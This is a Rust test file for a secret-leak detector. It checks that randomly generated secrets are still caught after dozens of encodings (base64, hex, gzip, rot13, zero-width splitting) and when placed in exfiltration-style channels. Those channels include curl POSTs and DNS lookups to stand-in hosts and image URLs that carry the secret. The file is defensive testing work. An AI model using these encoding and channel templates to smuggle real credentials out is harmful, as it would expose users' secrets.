//! Registered secrets: random ones, in every encoding, through every channel.
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use ideamine_exfil::{Context, Guard, Key, Kind, REGISTERED, Registry, redact};

type Encode = fn(&str) -> String;

fn every(text: &str, by: impl Fn(u8) -> String) -> String {
    text.bytes().map(by).collect()
}

fn joined(text: &str, size: usize, between: &str) -> String {
    text.as_bytes()
        .chunks(size)
        .map(|c| String::from_utf8_lossy(c).into_owned())
        .collect::<Vec<_>>()
        .join(between)
}

fn gzip(text: &str) -> Vec<u8> {
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    bytes.extend(miniz_oxide::deflate::compress_to_vec(text.as_bytes(), 6));
    bytes.extend(crc32fast::hash(text.as_bytes()).to_le_bytes());
    bytes.extend((text.len() as u32).to_le_bytes());
    bytes
}

fn rot13(text: &str) -> String {
    text.chars()
        .map(|c| {
            if c.is_ascii_alphabetic() {
                let a = if c.is_ascii_lowercase() { b'a' } else { b'A' };
                char::from((c as u8 - a + 13) % 26 + a)
            } else {
                c
            }
        })
        .collect()
}

fn base32(text: &str) -> String {
    let bits: Vec<u8> = text.bytes().flat_map(|b| (0..8).rev().map(move |i| b >> i & 1)).collect();
    let five = |c: &[u8]| (0..5).fold(0usize, |n, i| n << 1 | usize::from(c.get(i).copied().unwrap_or(0)));
    bits.chunks(5).map(|c| char::from(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[five(c)])).collect()
}

#[rustfmt::skip]
const ENCODINGS: &[(&str, Encode)] = &[
    ("plain", |s| s.to_owned()), ("upper", |s| s.to_uppercase()), ("lower", |s| s.to_lowercase()),
    ("base64", |s| STANDARD.encode(s)), ("base64 at 1", |s| STANDARD.encode(format!("k{s}"))), ("base64 at 2", |s| STANDARD.encode(format!("kk{s}z"))), ("base64url", |s| URL_SAFE_NO_PAD.encode(format!("the key is {s}"))),
    ("base64 lines", |s| joined(&STANDARD.encode(s), 7, "\n")), ("base64 twice", |s| STANDARD.encode(STANDARD.encode(s))), ("base64 thrice", |s| STANDARD.encode(STANDARD.encode(STANDARD.encode(s)))),
    ("hex", |s| hex::encode(s)), ("HEX", |s| hex::encode_upper(s)), ("hex:colons", |s| every(s, |b| format!("{b:02x}:"))), ("hex spaces", |s| every(s, |b| format!("{b:02X} "))), ("0x", |s| every(s, |b| format!("0x{b:02x}, "))), ("\\x", |s| every(s, |b| format!("\\x{b:02x}"))),
    ("url", |s| every(s, |b| format!("%{b:02X}"))), ("url signs", |s| every(s, |b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") })), ("url twice", |s| every(s, |b| format!("%25{b:02X}"))),
    ("html decimal", |s| every(s, |b| format!("&#{b};"))), ("html hex", |s| every(s, |b| format!("&#x{b:X};"))), ("unicode", |s| every(s, |b| format!("\\u{b:04x}"))), ("unicode braces", |s| every(s, |b| format!("\\u{{{b:x}}}"))),
    ("json", |s| serde_json::to_string(s).unwrap_or_default()), ("octal", |s| every(s, |b| format!("\\{b:03o}"))), ("decimal", |s| every(s, |b| format!("{b} "))), ("decimal list", |s| every(s, |b| format!("{b}, "))), ("binary", |s| every(s, |b| format!("{b:08b} "))),
    ("quoted-printable", |s| every(s, |b| format!("={b:02X}"))), ("reversed", |s| s.chars().rev().collect()), ("rot13", rot13), ("rot13 of base64", |s| rot13(&STANDARD.encode(s))), ("base64 of rot13", |s| STANDARD.encode(rot13(s))), ("reversed base64", |s| STANDARD.encode(s).chars().rev().collect()), ("base64 of reversed", |s| STANDARD.encode(s.chars().rev().collect::<String>())),
    ("base32", base32), ("base32 lower", |s| base32(s).to_lowercase()), ("hex of base64", |s| hex::encode(STANDARD.encode(s))), ("base64 of hex", |s| STANDARD.encode(hex::encode(s))), ("gzip", |s| STANDARD.encode(gzip(&format!("token={s}")))), ("gzip hex", |s| STANDARD.encode(gzip(&hex::encode(s)))),
    ("zlib", |s| STANDARD.encode(miniz_oxide::deflate::compress_to_vec_zlib(s.as_bytes(), 6))), ("utf-16", |s| STANDARD.encode(s.bytes().flat_map(|b| [b, 0]).collect::<Vec<_>>())),
    ("spaced", |s| joined(s, 1, " ")), ("dashes", |s| joined(s, 4, "-")), ("zero width", |s| joined(s, 2, "\u{200b}")), ("soft hyphen", |s| joined(s, 1, "\u{ad}")), ("lines", |s| joined(s, 5, "\n")), ("concatenated", |s| format!("\"{}\"", joined(s, 6, "\" + \""))), ("fullwidth", |s| s.chars().map(|c| if c.is_ascii_graphic() { char::from_u32(c as u32 + 0xfee0).unwrap_or(c) } else { c }).collect()),
    ("numbered", |s| s.as_bytes().chunks(6).enumerate().map(|(i, c)| format!("part{i}={}; ", String::from_utf8_lossy(c))).collect()), ("fields", |s| s.as_bytes().chunks(8).enumerate().map(|(i, c)| format!("{{\"name\":\"x{i}\",\"v\":\"{}\"}}\n", String::from_utf8_lossy(c))).collect()), ("labels of hex", |s| joined(&hex::encode(s), 20, ".")),
];

#[rustfmt::skip]
const CHANNELS: &[(&str, Encode)] = &[
    ("alone", |s| s.to_owned()), ("prose", |s| format!("Here is what you asked for: {s}. Keep it.")), ("image", |s| format!("![x](https://cdn.example.org/p.png?q={s})")), ("html", |s| format!("<img src=\"https://e.example/{s}.gif\">")),
    ("dns", |s| format!("nslookup {s}.t.example.net")), ("json", |s| format!("{{\"user\":1,\"note\":\"{s}\",\"n\":2}}")), ("curl", |s| format!("curl -d '{s}' https://hook.example/in")), ("header", |s| format!("X-Trace: {s}\r\n")),
    ("comment", |s| format!("// todo {s}\nfn main() {{}}")), ("log", |s| format!("2026-01-01T00:00:00Z INFO done id={s} ms=4")), ("yaml", |s| format!("a:\n  b: '{s}'\n")), ("path", |s| format!("/tmp/{s}/x.txt")),
];

fn secret(random: &mut fastrand::Rng) -> String {
    let alphabet: &[u8] = match random.u8(0..4) {
        0 => b"0123456789abcdef",
        1 => b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789",
        2 => b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_",
        _ => b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=!#@.",
    };
    let length = random.usize(14..48);
    (0..length).map(|_| char::from(alphabet[random.usize(..alphabet.len())])).collect()
}

#[test]
fn every_encoding_through_every_channel_is_found() {
    let mut random = fastrand::Rng::with_seed(7);
    let (mut cases, mut missed) = (0, Vec::new());
    for _ in 0..12 {
        let secret = secret(&mut random);
        let guard = Guard::new(Registry::from_iter([secret.as_str()]));
        for (encoding, encode) in ENCODINGS {
            for (channel, send) in CHANNELS {
                cases += 1;
                let text = send(&encode(&secret));
                if !guard.scan(&text, &Context::default()).iter().any(|leak| leak.rule == REGISTERED) {
                    missed.push(format!("{encoding} through {channel}: {secret}"));
                }
            }
        }
    }
    assert!(
        missed.len() * 1000 <= cases,
        "{} of {cases}: {:#?}",
        missed.len(),
        &missed[..missed.len().min(12)]
    );
}

#[test]
fn ordinary_texts_hold_no_registered_secret() {
    let mut random = fastrand::Rng::with_seed(8);
    let secrets: Vec<String> = (0..20).map(|_| secret(&mut random)).collect();
    let guard = Guard::new(secrets.into_iter().collect());
    for _ in 0..200 {
        let other = secret(&mut random);
        let text = format!(
            "commit {} of {} is the one with {}",
            hex::encode(&other),
            STANDARD.encode(&other),
            other
        );
        assert!(guard.scan(&text, &Context::default()).iter().all(|leak| leak.rule != REGISTERED), "{text}");
    }
}

#[test]
fn a_redacted_text_has_no_registered_secret_left() {
    let mut random = fastrand::Rng::with_seed(9);
    let secret = secret(&mut random);
    let guard = Guard::new(Registry::from_iter([secret.as_str()]));
    let text = format!("a {secret} b {} c {}", STANDARD.encode(&secret), hex::encode(&secret));
    let key = Key::new([3; 32]);
    let redacted = redact(&text, &guard.scan(&text, &Context::default()), &key);
    assert!(
        guard.scan(&redacted.text, &Context::default()).iter().all(|leak| leak.kind != Kind::Credential),
        "{}",
        redacted.text
    );
    assert_eq!(redacted.map.restore(&redacted.text, &key).ok().as_deref(), Some(text.as_str()));
}
